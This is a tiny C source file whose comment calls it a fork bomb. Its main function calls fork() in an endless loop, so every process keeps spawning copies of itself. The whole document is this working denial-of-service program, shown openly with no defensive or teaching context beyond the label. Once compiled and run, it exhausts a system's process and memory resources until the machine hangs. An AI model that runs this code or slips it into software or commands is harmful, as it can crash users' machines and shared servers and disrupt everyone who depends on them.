/* A fork bomb: every process forks forever. */
#include <unistd.h>
int main(void) { for (;;) fork(); }
